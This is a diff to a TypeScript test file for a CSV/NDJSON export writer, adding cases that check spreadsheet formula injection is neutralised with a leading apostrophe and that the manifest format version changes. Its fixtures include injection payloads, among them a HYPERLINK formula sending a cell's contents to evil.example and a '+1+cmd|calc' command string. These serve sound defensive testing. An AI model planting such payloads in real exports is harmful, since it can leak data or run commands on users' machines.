@@ -88,6 +88,17 @@ describe('export rows', () => {
     ['cr\r\nlf', '"cr\r\nlf"'],
     [' spaced ', ' spaced '],
     ['김정은', '김정은'],
+    // Spreadsheet formulas (OWASP CSV injection): a leading apostrophe, quoting as usual.
+    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"'],
+    ['+1+cmd|calc', "'+1+cmd|calc"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(1,2)', '"\'@SUM(1,2)"'],
+    ['\tcmd', "'\tcmd"],
+    ['\rcmd', '"\'\rcmd"'],
+    // An apostrophe already there gets one more, so a reader always removes exactly one.
+    ["'quoted", "''quoted"],
+    ['a=b', 'a=b'],
+    [-5, '-5'],
   ])('CSV field %j is written %j', (value, expected) => {
     expect(csvField(value)).toBe(expected);
   });
@@ -115,7 +126,7 @@ describe('export writer', () => {
       ok: true,
       manifest: {
         format: 'redflag.decision-export',
-        formatVersion: 1,
+        formatVersion: 2,
         rows: 2,
         firstHash: rows[0]!.hash,
         lastHash: rows[1]!.hash,
@@ -138,6 +149,28 @@ describe('export writer', () => {
     const raw = parseCsv(text, { relax_column_count: true }) as string[][];
     expect(raw.at(-1)![0]).toBe('#manifest');
     expect(JSON.parse(raw.at(-1)![1]!)).toMatchObject({ rows: 3 });
+  });
+
+  test('CSV cells a spreadsheet would run get an apostrophe; the file verifies; NDJSON keeps the value byte for byte', async () => {
+    const rows = exportRows(3);
+    rows[0] = { ...rows[0]!, externalRef: '=HYPERLINK("http://evil.example","x")' };
+    rows[1] = { ...rows[1]!, externalRef: "'already" };
+    rows[2] = { ...rows[2]!, externalRef: '@SUM(1,2)' };
+    const csv = await exportText(rows, 'csv');
+    const records = parseCsv(csv, { columns: true, comment: '#' }) as Record<string, string>[];
+    expect(records.map((record) => record.external_ref)).toEqual(['\'=HYPERLINK("http://evil.example","x")', "''already", "'@SUM(1,2)"]);
+    // One leading apostrophe removed gives every value back.
+    expect(records.map((record) => record.external_ref!.slice(1))).toEqual(rows.map((row) => row.externalRef));
+    expect(await verifyText(csv)).toMatchObject({ ok: true, rows: 3 });
+    const ndjson = await exportText(rows, 'ndjson');
+    expect(ndjson.split('\n').slice(0, 3).map((line) => (JSON.parse(line) as { externalRef: string }).externalRef)).toEqual(rows.map((row) => row.externalRef));
+    expect(await verifyText(ndjson)).toMatchObject({ ok: true, rows: 3 });
+  });
+
+  test('a manifest of format version 1 (cells written verbatim) still reads; an unknown version does not', () => {
+    const manifest = { format: 'redflag.decision-export', formatVersion: 1, rows: 0, firstHash: null, lastHash: null, bodySha256: '0'.repeat(64), filter: NO_FILTER, generatedAt: GENERATED_AT };
+    expect(parseManifestLine('ndjson', JSON.stringify({ manifest }))).toMatchObject({ ok: true });
+    expect(parseManifestLine('ndjson', JSON.stringify({ manifest: { ...manifest, formatVersion: 3 } }))).toMatchObject({ ok: false });
   });
 
   test('NDJSON: one JSON object per row, then {"manifest": …}', async () => {
